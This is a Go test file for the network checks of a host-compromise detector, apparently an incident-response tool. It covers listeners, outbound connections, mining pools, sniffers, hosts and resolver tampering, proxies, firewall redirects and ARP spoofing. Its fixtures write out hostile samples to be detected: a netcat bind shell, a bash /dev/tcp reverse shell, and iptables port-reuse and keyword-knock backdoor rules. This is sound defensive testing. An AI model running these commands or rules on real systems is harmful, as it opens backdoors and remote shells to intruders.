package check

import (
	"net/netip"
	"testing"
	"time"

	"github.com/yingji/yingji/internal/snapshot"
)

// networkPacketHeader is the first line of /proc/net/packet.
const networkPacketHeader = "sk               RefCnt Type Proto  Iface R Rmem   User   Inode\n"

func TestNetworkScenarios(t *testing.T) {
	runSnapScenarios(t, []snapScenario{
		// network.listeners
		{name: "catalogue lists sshd", want: []want{{"network.listeners", "/usr/sbin/sshd"}}},
		// network.suspicious_listener
		{name: "listener from a hidden temp dir", snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5000, 1, "srv", "/tmp/.s/srv", "/tmp/.s/srv"))
			processesSocketFDs(p, 6000, 3)
			s.Sockets = append(s.Sockets, processesSock("tcp", "0.0.0.0", 8443, "0.0.0.0", 0, "LISTEN", 6000, 5000))
		}, want: []want{{"network.suspicious_listener", "/tmp/.s/srv"}, {"network.listeners", "/tmp/.s/srv"}}},
		{name: "netcat bind shell on all IPv6 interfaces", snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5001, 710, "nc", "/usr/bin/nc.openbsd", "nc", "-lvp", "9999", "-e", "/bin/sh"))
			processesSocketFDs(p, 6001, 3)
			s.Sockets = append(s.Sockets, processesSock("tcp6", "::", 9999, "::", 0, "LISTEN", 6001, 5001))
		}, want: []want{{"network.suspicious_listener", "/usr/bin/nc.openbsd"}}},
		{name: "python one-liner server and unpackaged agent on 31337", plant: func(r *testRoot) {
			r.writeMode("/usr/local/bin/agent", fakeELF("agent"), 0o755)
		}, snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5002, 710, "python3", "/usr/bin/python3.11", "python3", "-c", "import socket,os;s=socket.socket();s.bind(('',8000))"))
			processesSocketFDs(p, 6002, 3)
			q := processesAdd(s, processesProc(5003, 1, "agent", "/usr/local/bin/agent", "agent"))
			processesSocketFDs(q, 6003, 3)
			s.Sockets = append(s.Sockets, processesSock("tcp", "0.0.0.0", 8000, "0.0.0.0", 0, "LISTEN", 6002, 5002),
				processesSock("tcp", "0.0.0.0", 31337, "0.0.0.0", 0, "LISTEN", 6003, 5003))
		}, want: []want{{"network.suspicious_listener", "/usr/bin/python3.11"}, {"network.suspicious_listener", "/usr/local/bin/agent"}}},
		{name: "benign: gunicorn app, packaged DNS forwarder over UDP", plant: func(r *testRoot) {
			r.writeMode("/usr/sbin/dnsmasq", fakeELF("dnsmasq"), 0o755)
			r.own("dnsmasq-base", "/usr/sbin/dnsmasq")
		}, snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5004, 1, "gunicorn", "/usr/bin/python3.11", "/usr/bin/python3", "-m", "gunicorn", "app:app", "-b", "0.0.0.0:8000"))
			processesSocketFDs(p, 6004, 5)
			q := processesAdd(s, processesProc(5005, 1, "dnsmasq", "/usr/sbin/dnsmasq", "/usr/sbin/dnsmasq", "-k"))
			processesSocketFDs(q, 6005, 4)
			s.Sockets = append(s.Sockets, processesSock("tcp", "0.0.0.0", 8000, "0.0.0.0", 0, "LISTEN", 6004, 5004),
				processesSock("udp", "127.0.0.1", 53, "0.0.0.0", 0, "CLOSE", 6005, 5005))
		}},
		// network.connections and network.suspicious_connection
		{name: "outbound HTTPS from curl is catalogued", snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5010, 710, "curl", "/usr/bin/curl", "curl", "https://deb.debian.org/"))
			processesSocketFDs(p, 6010, 5)
			s.Sockets = append(s.Sockets, processesSock("tcp", "198.51.100.5", 43210, "151.101.2.132", 443, "ESTABLISHED", 6010, 5010))
		}, want: []want{{"network.connections", "/usr/bin/curl"}}},
		{name: "backdoor in /dev/shm calling home", snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5011, 1, "x", "/dev/shm/x", "/dev/shm/x"))
			processesSocketFDs(p, 6011, 4)
			s.Sockets = append(s.Sockets, processesSock("tcp", "198.51.100.5", 43211, "203.0.113.7", 443, "ESTABLISHED", 6011, 5011))
		}, want: []want{{"network.suspicious_connection", "/dev/shm/x"}}},
		{name: "unpackaged agent and a shell holding /dev/tcp on fd 5", plant: func(r *testRoot) {
			r.writeMode("/usr/local/bin/agent", fakeELF("agent"), 0o755)
		}, snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5012, 1, "agent", "/usr/local/bin/agent", "agent"))
			processesSocketFDs(p, 6012, 4)
			q := processesAdd(s, processesProc(5013, 1, "bash", "/usr/bin/bash", "bash", "-c", "exec 5<>/dev/tcp/203.0.113.9/443;cat <&5|bash"))
			processesSocketFDs(q, 6013, 5)
			s.Sockets = append(s.Sockets, processesSock("tcp", "198.51.100.5", 43212, "203.0.113.8", 8080, "ESTABLISHED", 6012, 5012),
				processesSock("tcp", "198.51.100.5", 43213, "203.0.113.9", 443, "SYN_SENT", 6013, 5013))
		}, want: []want{{"network.suspicious_connection", "/usr/local/bin/agent"}, {"network.suspicious_connection", "/usr/bin/bash"}}},
		{name: "benign: inbound SSH session, packaged client, container client", snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5014, 710, "cat", "/usr/bin/cat", "cat"))
			processesSocketFDs(p, 6014, 3)
			q := processesAdd(s, processesProc(5015, 1, "app", "/app/bin/app", "/app/bin/app"))
			q.MntNS = "mnt:[4026532999]"
			processesSocketFDs(q, 6015, 3)
			s.Sockets = append(s.Sockets, processesSock("tcp", "198.51.100.5", 43214, "198.51.100.9", 5432, "ESTABLISHED", 6014, 5014),
				processesSock("tcp", "172.17.0.2", 43215, "203.0.113.10", 443, "ESTABLISHED", 6015, 5015))
		}},
		// network.mining_pool_connection
		{name: "packaged-looking program connected to pool port 3333", snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5020, 1, "sleep", "/usr/bin/sleep", "sleep", "infinity"))
			processesSocketFDs(p, 6020, 0)
			s.Sockets = append(s.Sockets, processesSock("tcp", "198.51.100.5", 43220, "203.0.113.50", 3333, "ESTABLISHED", 6020, 5020))
		}, want: []want{{"network.mining_pool_connection", "/usr/bin/sleep"}}},
		{name: "wallet-carrying process connected to 14444 over IPv6", snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5021, 1, "java", "/opt/j/java", "java", "-u", processesWallet))
			processesSocketFDs(p, 6021, 7)
			s.Sockets = append(s.Sockets, processesSock("tcp6", "2001:db8::5", 43221, "2001:db8::50", 14444, "ESTABLISHED", 6021, 5021))
		}, want: []want{{"network.mining_pool_connection", "/opt/j/java"}, {"processes.miner", "/opt/j/java"}}},
		{name: "benign: a dev server listening on 3333 with a client, and a MySQL client", snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5022, 1, "node", "/usr/bin/node", "node", "server.js"))
			processesSocketFDs(p, 6022, 3)
			processesSocketFDs(p, 6023, 4)
			s.Sockets = append(s.Sockets, processesSock("tcp", "0.0.0.0", 3333, "0.0.0.0", 0, "LISTEN", 6022, 5022),
				processesSock("tcp", "198.51.100.5", 3333, "198.51.100.20", 50000, "ESTABLISHED", 6023, 5022),
				processesSock("tcp", "198.51.100.5", 43223, "198.51.100.30", 3306, "ESTABLISHED", 6024, 5022))
		}},
		// network.bad_port_connection
		{name: "IRC connection from perl", snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5030, 1, "perl", "/usr/bin/perl", "perl", "/var/www/.b.pl"))
			processesSocketFDs(p, 6030, 3)
			s.Sockets = append(s.Sockets, processesSock("tcp", "198.51.100.5", 43230, "203.0.113.66", 6667, "ESTABLISHED", 6030, 5030))
		}, want: []want{{"network.bad_port_connection", "/usr/bin/perl"}}},
		{name: "shell connected to a Metasploit handler", snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5031, 1, "sh", "/usr/bin/dash", "sh"))
			processesSocketFDs(p, 6031, 0, 1, 2)
			s.Sockets = append(s.Sockets, processesSock("tcp", "198.51.100.5", 43231, "203.0.113.67", 4444, "ESTABLISHED", 6031, 5031))
		}, want: []want{{"network.bad_port_connection", "/usr/bin/dash"}, {"processes.reverse_shell", "/usr/bin/dash"}}},
		{name: "benign: HTTPS and DNS", snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5032, 1, "sleep", "/usr/bin/sleep", "sleep"))
			processesSocketFDs(p, 6032, 3)
			s.Sockets = append(s.Sockets, processesSock("tcp", "198.51.100.5", 43232, "203.0.113.68", 443, "ESTABLISHED", 6032, 5032),
				processesSock("udp", "198.51.100.5", 43233, "192.0.2.53", 53, "ESTABLISHED", 6033, 5032))
		}},
		// network.raw_socket
		{name: "ICMP backdoor from a hidden temp dir", snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5040, 1, "icmpd", "/var/tmp/.i/icmpd", "icmpd"))
			processesSocketFDs(p, 6040, 3)
			s.Sockets = append(s.Sockets, processesSock("raw", "0.0.0.0", 1, "0.0.0.0", 0, "CLOSE", 6040, 5040))
		}, want: []want{{"network.raw_socket", "/var/tmp/.i/icmpd"}}},
		{name: "raw IPv6 socket that no visible process holds", snap: func(r *testRoot, s *snapshot.Snapshot) {
			s.Sockets = append(s.Sockets, processesSock("raw6", "::", 58, "::", 0, "CLOSE", 6041))
		}, want: []want{{"network.raw_socket", ""}}},
		{name: "benign: packaged ping", plant: func(r *testRoot) {
			r.writeMode("/usr/bin/ping", fakeELF("ping"), 0o755)
			r.own("iputils-ping", "/usr/bin/ping")
		}, snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5042, 710, "ping", "/usr/bin/ping", "ping", "198.51.100.1"))
			processesSocketFDs(p, 6042, 3)
			s.Sockets = append(s.Sockets, processesSock("raw", "0.0.0.0", 1, "0.0.0.0", 0, "CLOSE", 6042, 5042))
		}},
		// network.packet_socket (reads proc/net/packet through the Source)
		{name: "sniffer capturing all frames from a hidden dir", live: true, plant: func(r *testRoot) {
			r.write("/proc/net/packet", networkPacketHeader+
				"ffff8a4c0c3e3000 3      3    0003   2     1 0      0      7000\n")
		}, snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5050, 1, "ssh-sniff", "/usr/lib/.sn/ssh-sniff", "ssh-sniff", "-i", "eth0"))
			processesSocketFDs(p, 7000, 3)
		}, want: []want{{"network.packet_socket", "/usr/lib/.sn/ssh-sniff"}}},
		{name: "packet socket no visible process holds", live: true, plant: func(r *testRoot) {
			r.write("/proc/net/packet", networkPacketHeader+
				"ffff8a4c0c3e4000 3      2    0800   0     1 0      0      7001\n")
		}, want: []want{{"network.packet_socket", "/proc/net/packet"}}},
		{name: "benign: packaged DHCP client", live: true, plant: func(r *testRoot) {
			r.writeMode("/usr/sbin/dhclient", fakeELF("dhclient"), 0o755)
			r.own("isc-dhcp-client", "/usr/sbin/dhclient")
			r.write("/proc/net/packet", networkPacketHeader+
				"ffff8a4c0c3e5000 3      3    0003   2     1 0      0      7002\n")
		}, snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5052, 1, "dhclient", "/usr/sbin/dhclient", "/sbin/dhclient", "-4", "eth0"))
			processesSocketFDs(p, 7002, 5)
		}},
		// network.promiscuous
		{name: "promiscuous eth0", snap: func(r *testRoot, s *snapshot.Snapshot) {
			s.Interfaces[1].Promisc = true
			s.Interfaces[1].Flags = append(s.Interfaces[1].Flags, "PROMISC")
		}, want: []want{{"network.promiscuous", "/sys/class/net/eth0/flags"}}},
		{name: "benign: promiscuous veth without addresses, bridge port", live: true, plant: func(r *testRoot) {
			r.write("/sys/class/net/tap0/brport/state", "3\n")
		}, snap: func(r *testRoot, s *snapshot.Snapshot) {
			s.Interfaces = append(s.Interfaces, snapshot.Interface{Name: "veth1a2b3c", Index: 7, Promisc: true, Flags: []string{"UP", "PROMISC"}},
				snapshot.Interface{Name: "tap0", Index: 8, Promisc: true, Flags: []string{"UP", "PROMISC"}, Addrs: []string{"10.9.0.1/24"}})
		}},
		// network.hosts_tampering
		{name: "security agent update server blocked in hosts", plant: func(r *testRoot) {
			r.appendTo("etc/hosts", "127.0.0.1 update.aegis.aliyun.com\n")
		}, want: []want{{"network.hosts_tampering", "/etc/hosts"}}},
		{name: "hosts hard variant: tabs, upper case, comment, 0.0.0.0", plant: func(r *testRoot) {
			r.appendTo("etc/hosts", "0.0.0.0\t\tUPDATE2.AEGIS.ALIYUN.COM   s.yd.qcloud.com # speed up\n")
		}, want: []want{{"network.hosts_tampering", "/etc/hosts"}}},
		{name: "Debian mirrors redirected, localhost moved, pool pinned", plant: func(r *testRoot) {
			r.write("etc/hosts", "203.0.113.5 localhost\n10.9.9.9 security.debian.org deb.debian.org\n203.0.113.9 pool.supportxmr.com\n")
		}, want: []want{{"network.hosts_tampering", "/etc/hosts"}}},
		{name: "benign: cloud metadata, internal names, IPv6 defaults", plant: func(r *testRoot) {
			r.appendTo("etc/hosts", "169.254.169.254 metadata.google.internal # Added by Google\n10.0.0.5 db01 db01.corp.example\nfe00::0 ip6-localnet\nff02::1 ip6-allnodes\n# 127.0.0.1 security.debian.org\n")
		}},
		// network.dns_resolvers
		{name: "public resolver is catalogued", plant: func(r *testRoot) {
			r.write("etc/resolv.conf", "nameserver 8.8.8.8\nnameserver 203.0.113.53\n")
		}, want: []want{{"network.dns_resolvers", "/etc/resolv.conf"}}},
		// network.resolv_tampered
		{name: "extra nameserver beside systemd-resolved's stub", plant: func(r *testRoot) {
			r.write("etc/resolv.conf", "# This is /run/systemd/resolve/stub-resolv.conf managed by man:systemd-resolved(8).\n# This file is managed by man:systemd-resolved(8). Do not edit.\n\nnameserver 127.0.0.53\nnameserver 203.0.113.66\noptions edns0 trust-ad\nsearch .\n")
		}, want: []want{{"network.resolv_tampered", "/etc/resolv.conf"}}},
		{name: "nameserver prepended above NetworkManager's header", plant: func(r *testRoot) {
			r.write("etc/resolv.conf", "nameserver   203.0.113.66\n# Generated by NetworkManager\nsearch corp.example\nnameserver 10.0.0.2\n")
		}, want: []want{{"network.resolv_tampered", "/etc/resolv.conf"}}},
		{name: "resolv.conf linked into /dev/shm", plant: func(r *testRoot) {
			r.write("dev/shm/.r", "nameserver 203.0.113.66\n")
			r.link("/dev/shm/.r", "etc/resolv.conf")
		}, want: []want{{"network.resolv_tampered", "/etc/resolv.conf"}}},
		{name: "benign: managed files as their managers write them", plant: func(r *testRoot) {
			r.write("etc/resolv.conf", "# Generated by NetworkManager\nsearch corp.example\nnameserver 10.0.0.2\nnameserver 10.0.0.3\n")
			r.write("run/systemd/resolve/stub-resolv.conf", "# This file is managed by man:systemd-resolved(8). Do not edit.\nnameserver 127.0.0.53\noptions edns0 trust-ad\n")
		}},
		// network.proxy_env
		{name: "system-wide proxy on an Internet address", plant: func(r *testRoot) {
			r.write("etc/environment", "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin\"\nhttp_proxy=http://203.0.113.80:3128\n")
		}, want: []want{{"network.proxy_env", "/etc/environment"}}},
		{name: "proxies in profile.d, apt and a user's bashrc", plant: func(r *testRoot) {
			r.write("etc/profile.d/proxy.sh", "export HTTPS_PROXY='socks5://user:pw@10.1.1.1:1080'\n")
			r.write("etc/apt/apt.conf.d/95proxy", "Acquire::http::Proxy \"http://proxy.corp.example:3128\";\n")
			r.appendTo("home/debian/.bashrc", "  export all_proxy=\"socks5h://127.0.0.1:7890\"\n")
		}, want: []want{{"network.proxy_env", "/etc/profile.d/proxy.sh"}, {"network.proxy_env", "/etc/apt/apt.conf.d/95proxy"}, {"network.proxy_env", "/home/debian/.bashrc"}}},
		{name: "proxy in process environments", snap: func(r *testRoot, s *snapshot.Snapshot) {
			p := processesAdd(s, processesProc(5060, 1, "sleep", "/usr/bin/sleep", "sleep"))
			p.Environ = []string{"https_proxy=http://198.18.0.1:8080"}
		}, want: []want{{"network.proxy_env", "/usr/bin/sleep"}}},
		{name: "benign: no_proxy and commented proxies", plant: func(r *testRoot) {
			r.write("etc/environment", "no_proxy=localhost,127.0.0.1\n# http_proxy=http://203.0.113.80:3128\n")
			r.write("etc/apt/apt.conf.d/01proxy", "// Acquire::http::Proxy \"http://203.0.113.80:3128\";\nAcquire::http::Proxy::deb.debian.org \"DIRECT\";\n")
		}},
		// network.firewall_redirect
		{name: "port-reuse backdoor: source-port triggered redirect to SSH", plant: func(r *testRoot) {
			r.write("etc/iptables/rules.v4", "*nat\n:PREROUTING ACCEPT [0:0]\n-A PREROUTING -p tcp --dport 80 --sport 8888 -j REDIRECT --to-ports 22\nCOMMIT\n")
		}, want: []want{{"network.firewall_redirect", "/etc/iptables/rules.v4"}}},
		{name: "nftables redirect to 31337 and an opened 4444", plant: func(r *testRoot) {
			r.write("etc/nftables.conf", "table ip nat {\n  chain prerouting {\n    type nat hook prerouting priority -100;\n    tcp dport 443 ip saddr 203.0.113.0/24 redirect to :31337\n  }\n}\n")
			r.write("etc/sysconfig/iptables", "*filter\n-A INPUT -p tcp -m tcp --dport 4444 -j ACCEPT\nCOMMIT\n")
		}, want: []want{{"network.firewall_redirect", "/etc/nftables.conf"}, {"network.firewall_redirect", "/etc/sysconfig/iptables"}}},
		{name: "string-match redirect (keyword-triggered)", plant: func(r *testRoot) {
			r.write("etc/iptables/rules.v4", "*nat\n-A PREROUTING -p tcp --dport 443 -m string --string \"knock-knock\" --algo bm -j DNAT --to-destination 127.0.0.1:22\nCOMMIT\n")
		}, want: []want{{"network.firewall_redirect", "/etc/iptables/rules.v4"}}},
		{name: "benign: 80 to 8080, docker DNAT, SSH allowed", plant: func(r *testRoot) {
			r.write("etc/iptables/rules.v4", "*nat\n-A PREROUTING -p tcp --dport 80 -j REDIRECT --to-ports 8080\n-A DOCKER ! -i docker0 -p tcp -m tcp --dport 8443 -j DNAT --to-destination 172.17.0.2:443\nCOMMIT\n*filter\n-A INPUT -p tcp --dport 22 -j ACCEPT\n# -A INPUT -p tcp --dport 4444 -j ACCEPT\nCOMMIT\n")
		}},
		// network.arp_spoof
		{name: "gateway's IP answered by another host's MAC", snap: func(r *testRoot, s *snapshot.Snapshot) {
			s.ARP = append(s.ARP, snapshot.ARPEntry{IP: processesIP("198.51.100.66"), HWType: 1, Flags: 2, HardwareAddr: "52:54:00:AA:BB:01", Device: "eth0"})
		}, want: []want{{"network.arp_spoof", "/proc/net/arp"}}},
		{name: "benign: proxy-ARP cloud network, incomplete entries", snap: func(r *testRoot, s *snapshot.Snapshot) {
			s.ARP = nil
			for i, ip := range []string{"198.51.100.1", "198.51.100.2", "198.51.100.3"} {
				s.ARP = append(s.ARP, snapshot.ARPEntry{IP: processesIP(ip), HWType: 1, Flags: 2, HardwareAddr: "ee:ff:ff:ff:ff:ff", Device: "eth0"})
				_ = i
			}
			s.ARP = append(s.ARP, snapshot.ARPEntry{IP: processesIP("198.51.100.9"), HWType: 1, Flags: 0, HardwareAddr: "00:00:00:00:00:00", Device: "eth0"},
				snapshot.ARPEntry{IP: processesIP("198.51.100.10"), HWType: 1, Flags: 0, HardwareAddr: "00:00:00:00:00:00", Device: "eth0"})
		}},
	})
}

// TestNetworkFindHiddenPorts plants a port a rootkit hides from
// /proc/net/tcp, and a port opened during the probe.
func TestNetworkFindHiddenPorts(t *testing.T) {
	inUse := map[int]bool{22: true, 2024: true, 31337: true, 40000: true}
	calls := 0
	pr := networkPortProbe{
		inUse: func(port int) bool { return inUse[port] },
		listed: func() (map[int]bool, error) {
			calls++
			out := map[int]bool{22: true, 2024: true}
			if calls > 1 {
				out[40000] = true // a connection that showed up meanwhile
			}
			return out, nil
		},
	}
	ports := make([]int, 0, 65535)
	for p := 1; p <= 65535; p++ {
		ports = append(ports, p)
	}
	got, err := networkFindHiddenPorts(pr, ports, time.Now().Add(time.Minute))
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0] != 31337 {
		t.Fatalf("hidden ports = %v, want [31337]", got)
	}
}

// TestNetworkParsePacket checks the /proc/net/packet parser on hostile
// lines.
func TestNetworkParsePacket(t *testing.T) {
	got := networkParsePacket([]byte(networkPacketHeader +
		"ffff8a4c0c3e3000 3      3    0003   2     1 0      0      7000\n" +
		"garbage\n" +
		"ffff 3 3 zz 2 1 0 0 7001\n" +
		"ffff8a4c0c3e4000 3      2    88cc   -1    1 0      101    18446744073709551615\n"))
	if len(got) != 2 || got[0].Proto != 3 || got[0].Inode != 7000 || got[1].Proto != 0x88cc || got[1].Iface != -1 {
		t.Fatalf("parsed %+v", got)
	}
	if h := networkProxyHost("socks5h://u:p@[2001:db8::1]:1080/x"); h != "2001:db8::1" {
		t.Errorf("proxy host = %q", h)
	}
	if h := networkProxyHost("http://203.0.113.80:3128"); h != "203.0.113.80" {
		t.Errorf("proxy host = %q", h)
	}
	if !networkPublic(netip.MustParseAddr("203.0.113.80")) || networkPublic(netip.MustParseAddr("10.1.1.1")) || networkPublic(netip.MustParseAddr("100.100.2.148")) {
		t.Error("networkPublic misjudges")
	}
}
